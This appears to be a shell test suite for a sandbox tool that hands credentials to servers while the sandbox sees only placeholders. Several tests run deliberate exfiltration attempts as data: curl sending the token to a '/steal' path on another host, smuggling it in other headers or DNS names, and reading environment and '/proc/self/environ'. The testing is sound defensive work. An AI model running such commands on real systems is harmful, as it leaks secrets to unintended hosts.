# Credentials on doors: the server gets the secret, the box never has it.
. "$(dirname "$0")/lib-net.sh"
if [ ! -x "$CORDON_LIBEXEC/cordon-vault" ]; then
        skip "credentials on doors" "cordon-vault is not built here: it needs OpenSSL"
        done_testing
fi
secret=ghp_Q9zzSecretOfTheTestSuite0123456789
# Which spellings of a word stand in files, or in all files below directories, in small letters or not.
cat >"$T/spellings.py" <<'END'
import base64, os, sys, urllib.parse
s = sys.argv[1].encode()
forms = {'plain': s, 'url': urllib.parse.quote(s, safe='').encode(), 'hex': s.hex().encode()}
forms.update({'base64 at %d' % i: base64.b64encode(b'x' * i + s)[4 if i else 0:-4] for i in range(3)})
for top in sys.argv[2:]:
    for f in [top] if os.path.isfile(top) else [os.path.join(d, x) for d, _, all in os.walk(top) for x in all]:
        data = open(f, 'rb').read().lower()
        for name, form in forms.items():
            if form.lower() in data:
                print(f, name)
END
for who in root as_user; do
        # Each has a vault of its own, where it may write.
        home=$T/home-$who
        mkdir -m 700 "$home" && [ "$who" = root ] || chown 65533:65533 "$home" 2>/dev/null
        export XDG_CONFIG_HOME="$home"
        box $who --net "http://web.test/** with gh" -- true
        is "$who: a vault with nothing in it stops the start, and says what to type" "$status $(grep -c 'cordon vault add gh' "$T/err")" "125 1"
        printf %s "$secret" | $who env XDG_CONFIG_HOME="$home" "$CORDON" vault add gh --env GITHUB_TOKEN >"$T/out" 2>&1
        is "$who: a credential" "$? $(cat "$T/out")" "0 "
        door="https://web.test/** GET with gh"
        plain="http://web.test/** GET with gh"
        : >"$T/lab/auth.log"
        box $who --net "$plain" -- sh -c 'echo "$GITHUB_TOKEN"; curl -sS -m 10 -H "Authorization: Bearer $GITHUB_TOKEN" http://web.test/api'
        hasnt "$who: the variable is not the secret" "$(cat "$T/out")" "Q9zz"
        ok "$who: but as long" test "$(head -n 1 "$T/out" | wc -c)" -eq $((${#secret} + 1))
        is "$who: the server gets it" "$(cat "$T/lab/auth.log")" "/api Bearer $secret"
        is "$who: and the request went through" "$(tail -n 1 "$T/out")" "GET /api 0"
        first=$(head -n 1 "$T/out")
        box $who --net "$plain" -- sh -c 'echo "$GITHUB_TOKEN"'
        is "$who: the next run of the same policy has the same placeholder" "$(cat "$T/out")" "$first"
        box $who --net "$plain" --net four.test:80 -- sh -c 'echo "$GITHUB_TOKEN"'
        ok "$who: another policy has another" test "$(cat "$T/out")" != "$first"
        box $who --net "$plain" -- sh -c 'curl -sS -m 10 -i -H "Authorization: Bearer $GITHUB_TOKEN" http://web.test/echo; env; cat /proc/self/environ /etc/cordon/* | tr "\0" "\n"'
        has "$who: a server that echoes is heard" "$(cat "$T/out")" "you said"
        hasnt "$who: but the secret does not come back" "$(cat "$T/out")" "Q9zz"
        has "$who: and that is told" "$(json '[.net.destinations[].why] | join(" ")')" "secret"
        hasnt "$who: nothing of the result holds it" "$(cat "$T/status" "$T/err")" "Q9zz"
        : >"$T/lab/auth.log"
        box $who --net "$plain" --net http://four.test/** -- sh -c 'curl -sS -m 10 -H "Authorization: Bearer $GITHUB_TOKEN" http://four.test/steal'
        hasnt "$who: another host does not get it" "$(cat "$T/lab/auth.log")" "Q9zz"
        is "$who: the refusal is one of a credential, with the smallest line" "$(json '[.denials[] | select(.code == "credential")][0] | [.layer, .permit] | join(", ")')" "egress, net http://four.test/steal GET with NAME"
        has "$who: and the next step" "$(json '[.denials[] | select(.code == "credential")][0].next_steps | join("; ")')" "cordon vault ls"
        box $who --net "$plain" -- sh -c 'curl -sS -m 10 -H "X-Other: $GITHUB_TOKEN" http://web.test/other'
        is "$who: nor does another header of its own door, and no line would change that" "$(json '[.denials[] | select(.code == "credential")][0] | [.what, .permit] | join("; ")')" \
                "GET http://web.test/other (placeholder of the door's credential in the wrong place); "
        : >"$T/lab/dns.log"
        box $who --net "$plain" --net '*.wild.test:80' -- sh -c 'for n in $GITHUB_TOKEN.wild.test 1$GITHUB_TOKEN.x.wild.test $GITHUB_TOKEN.other.test 7.wild.test; do getent hosts $n; done'
        is "$who: nor in a name that a wildcard covers: it does not exist" "$(grep -c wild "$T/out") $(lab_names | tr '\n' ' ')" "1 7.wild.test "
        is "$who: which is told" "$(json '[.denials[] | select(.code == "credential" and .layer == "egress") | .what | capture("(?<why>[(].*[)])").why] | unique | join(" ")') $(json '[.denials[] | select(.code == "credential")] | length')" "(credential placeholder in the host name) 3"
        printf %s "$secret" | $who env XDG_CONFIG_HOME="$home" "$CORDON" vault add once --env ONCE --max-uses 1 >"$T/out" 2>&1
        box $who --net "http://web.test/** GET with once" -- sh -c 'for i in 1 2; do curl -sS -m 10 http://web.test/$i; done'
        has "$who: a credential that is used up is told as such" "$(json '[.denials[] | select(.code == "credential")][0].what')" "--max-uses"
        # What it is for is sealed with it: a door that is broader gets nothing, and nothing runs.
        printf %s "$secret" | $who env XDG_CONFIG_HOME="$home" "$CORDON" vault add narrow --env NARROW --for 'http://web.test/repos/** GET' >"$T/out" 2>&1
        box $who --net 'http://web.test/repos/a GET with narrow' -- curl -sS -m 10 http://web.test/repos/a
        has "$who: a narrower door gets it" "$(cat "$T/out")" "GET /repos/a"
        for wide in 'http://web.test/** GET' 'http://web.test/repos/** GET POST' 'http://web.test/repos/**' 'http://four.test/repos/** GET' 'https://web.test/repos/** GET'; do
                lab_anew
                box $who --net "$wide with narrow" -- sh -c 'echo ran; curl -sS -m 10 http://web.test/repos/a'
                is "$who: a door to $wide does not" "$status $(cat "$T/out") $(grep -c "credential narrow is not bound to this door: net $(printf %s "$wide" | sed 's/[*.]/\\&/g')" "$T/err")" "125  1"
        done
        is "$who: and nothing was reached" "$(lab_packets | grep -c tcp)" 0
        box $who --net 'http://web.test/repos/a GET with narrow' --net 'http://web.test/x GET with narrow' -- echo ran
        is "$who: one good door does not carry another" "$status $(cat "$T/out")" "125 "

        # In the query and in the body, under names that no list has: what is kept of the run holds it in no spelling.
        odd=s3cr/et+Q9zz=OfTheSuite0123456789
        mkdir -m 700 "$home/state" && [ "$who" = root ] || chown 65533:65533 "$home/state" 2>/dev/null
        export CORDON_STATE="$home/state"
        printf %s "$odd" | $who "$CORDON" vault add inquery --env Q --query zap >"$T/out" 2>&1
        printf %s "$odd" | $who "$CORDON" vault add inbody --env B --body >"$T/out" 2>&1
        : >"$T/lab/pay.log"
        box $who --record "$home/state/exchanges" --net 'http://web.test/pay/q GET POST with inquery touches money' --net 'http://web.test/** GET with inquery' \
                --net 'http://web.test/pay/b POST with inbody touches money' --net 'http://web.test/pay/w POST with inbody where x=int:1..5' -- sh -c '
                curl -sS -m 10 -d a=1 "http://web.test/pay/q?zap=x&a=1"; curl -sS -m 10 http://web.test/old http://web.test/new http://web.test/odd/lf; curl -sS -m 10 -X DELETE http://web.test/pay/q
                curl -sS -m 10 -d "t=$B" http://web.test/pay/b; curl -sS -m 10 -H content-type:application/json -d "{\"t\":\"$B\"}" http://web.test/pay/b
                curl -sS -m 10 -H content-type:application/json -d "{\"t\":\"$B\",\"x\":9}" http://web.test/pay/w'
        { $who "$CORDON" ledger show "$(json .run)"; $who "$CORDON" ledger --json; $who "$CORDON" ledger reach; } >"$T/log" 2>&1
        is "$who: the server got it each time" "$(python3 "$T/spellings.py" "$odd" "$T/lab/pay.log")" "$T/lab/pay.log url
$T/lab/pay.log hex"
        is "$who: the run was recorded" "$(jq -s length "$home/state/exchanges") $(grep -c 'request.*web.test/pay/q' "$T/log")" "5 4"
        is "$who: neither box nor block, result, record or ledger has it" "$(python3 "$T/spellings.py" "$odd" "$T/out" "$T/err" "$T/status" "$T/log" "$home/state" "$T/state-user")" ""
        # As a form and JSON spell it.
        : >"$T/lab/pay.log"
        box $who --net 'http://web.test/pay/b POST with inbody' -- sh -c 'curl -sS -m 10 --data-urlencode "t=$B" http://web.test/pay/b
                curl -sS -m 10 -H content-type:application/json -d "{\"t\":\"$B\"}" http://web.test/pay/b'
        is "$who: in a body it is put in as the body spells" "$(python3 -c 'import sys
for line in open(sys.argv[1]): print(bytes.fromhex(line.split()[2]).decode())' "$T/lab/pay.log")" 't=s3cr%2Fet%2BQ9zz%3DOfTheSuite0123456789
{"t":"s3cr/et+Q9zz=OfTheSuite0123456789"}'
        export CORDON_STATE="$T/state"

        box $who --net "http://web.test/** with nobody" -- true
        is "$who: a door whose credential is not in the vault stops the start" $status 125
        has "$who: and says what to type" "$(cat "$T/err")" "cordon vault add nobody"
done

# Credentials are the first thing that a broker reads: nobody can look into it by then, and it leaves no core.
cat >"$T/early.py" <<'END'
import os, socket, subprocess, sys, time
ours, its = socket.socketpair(socket.AF_UNIX, socket.SOCK_SEQPACKET)
os.dup2(its.fileno(), 3)
p = subprocess.Popen([sys.argv[1]], pass_fds=[3])
for _ in range(400):
    time.sleep(0.05)
    owner = os.stat('/proc/%d/environ' % p.pid).st_uid
    if owner == 0:
        break
print(owner, *[line.split()[4:6] for line in open('/proc/%d/limits' % p.pid) if line.startswith('Max core')][0])
p.kill()
p.wait()
END
if [ "$(id -u)" -eq 0 ] && [ "$CORDON_LAB" = root ]; then
        is "a broker that waits for its first order cannot be looked into" "$(as_user sh -c 'ulimit -c unlimited 2>/dev/null; python3 "$1" "$2"' sh "$T/early.py" "$CORDON_LIBEXEC/cordon-egress")" "0 0 0"
else
        skip "a broker that waits for its first order cannot be looked into" "whether it can is seen as root"
fi

# A user whose pipes are used up, perhaps by another box of hers: the kernel gives pipes of two pages then. Nothing hangs.
cat >"$T/pipes.py" <<'END'
import fcntl, os, resource, sys
resource.setrlimit(resource.RLIMIT_NOFILE, (resource.getrlimit(resource.RLIMIT_NOFILE)[1],) * 2)
held = []
try:
    for _ in range(int(sys.argv[1])): held.append(os.pipe())
except OSError: pass
print(fcntl.fcntl(held[-1][0], 1032), flush=True)
sys.stdin.read()
END
if [ "$(id -u)" -eq 0 ]; then
        home=$T/home-as_user
        mkfifo "$T/hold"
        as_user python3 "$T/pipes.py" 1900 <"$T/hold" >"$T/size" &
        holder=$!
        exec 8>"$T/hold"
        soon test -s "$T/size"
        if [ "$(cat "$T/size")" -le 8192 ]; then
                : >"$T/lab/auth.log"
                export XDG_CONFIG_HOME="$home"
                box as_user --net "http://web.test/** GET with gh" -- curl -sS -m 10 http://web.test/small 8>&-
                is "with no room in pipes a credential is still handed over" "$(cat "$T/out" "$T/lab/auth.log")" "GET /small 0
/small Bearer $secret"
                box as_user --stage mock --net "http://web.test/** GET with gh" -- true 8>&-
                is "and a dummy of one, too" "$status $(cat "$T/err")" "0 "
        else
                skip "with no room in pipes a credential is still handed over" "the user has too few descriptors, or may have any number of pages in pipes"
        fi
        exec 8>&-
        wait $holder
else
        skip "with no room in pipes a credential is still handed over" "it needs a second user"
fi
done_testing
